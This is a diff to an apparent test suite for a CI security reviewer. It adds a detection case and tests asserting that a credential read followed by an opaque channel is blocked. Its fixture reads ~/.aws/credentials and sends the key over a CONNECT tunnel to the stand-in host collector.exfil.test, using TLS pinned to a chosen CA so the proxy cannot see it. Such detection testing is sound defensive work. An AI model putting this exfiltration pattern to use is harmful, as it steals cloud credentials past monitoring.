@@ -386,6 +386,28 @@ urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20
 print("resolved")
 """
 
+# --------------------------------------------------------------------------- item 5: opaque
+
+# Read a credential, then talk over TLS pinned to a CA of its own: the proxy's certificate
+# fails, so nothing of what was said can be read. @READ@ is where the key is read.
+PINNED_TLS = r"""
+import glob, os, socket, ssl
+
+@READ@
+ca = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))[0]
+context = ssl.create_default_context(cafile=ca)
+host, port = os.environ["HTTPS_PROXY"].split("//", 1)[1].rsplit(":", 1)
+raw = socket.create_connection((host, int(port)), timeout=20)
+raw.sendall(b"CONNECT collector.exfil.test:443 HTTP/1.1\r\nHost: collector.exfil.test:443\r\n\r\n")
+raw.recv(4096)
+try:
+    tls = context.wrap_socket(raw, server_hostname="collector.exfil.test")
+    tls.sendall(key.encode())
+except ssl.SSLError as exc:
+    print("pinned:", type(exc).__name__)
+"""
+STEAL = 'key = open(os.path.expanduser("~/.aws/credentials")).read()'
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -410,6 +432,12 @@ CASES: dict[str, Case] = {
     ),
     "dns-routes": Case(scripted(), {"ci/install.sh": python(DNS_ROUTES)}),
     "dns-tests": Case(scripted(), {"ci/test.sh": python(DNS_TESTS)}),
+    "pinned-after-read": Case(
+        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", STEAL))}
+    ),
+    "pinned-only": Case(
+        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", 'key = "hello"'))}
+    ),
     "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
     "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
     "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
@@ -806,4 +834,43 @@ def test_a_suite_that_resolves_names_the_ordinary_ways_stays_clean(reviews: Revi
     assert {"docs.example.test", "example.test"} <= names, egress
     (doh,) = [e for e in egress if e["host"] == "dns.google"]
     assert doh["dns_name"] == "example.test"
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 5
+
+
+def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Reviews) -> None:
+    review = reviews.get("pinned-after-read")
+    (command,) = review.report("tests")["commands"]
+    assert "pinned: SSLCertVerificationError" in command["stdout_tail"], command
+    assert_blocked(review, "decoy-then-opaque-channel")
+    (hit,) = findings(review, "decoy-then-opaque-channel")
+    assert hit["check"] == "tests"
+    assert (
+        "read decoy ~/.aws/credentials, then opened a channel to collector.exfil.test:443"
+        in (hit["title"])
+    )
+    read, channel = (
+        next(e for e in hit["evidence"] if e["id"].startswith("tests:decoy:")),
+        next(e for e in hit["evidence"] if e["id"].startswith("tests:egress:")),
+    )
+    # Both named the same process, as the kernel showed it, with its parents.
+    assert read["pid"] == channel["pid"], (read, channel)
+    assert channel["exe"].split("/")[-1].startswith("python"), channel
+    assert channel["cmdline"].startswith("python -"), channel
+    assert channel["parents"], channel
+    assert channel["parents"][0].split(" ", 1)[1].endswith("bash")
+    assert (channel["method"], channel["action"]) == ("CONNECT", "refused")
+    assert read["ts"] <= channel["ts"]
+    assert_whole(review)
+
+
+def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> None:
+    review = reviews.get("pinned-only")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "CONNECT"]
+    assert channel["pid"] is not None  # named all the same
     assert_whole(review)
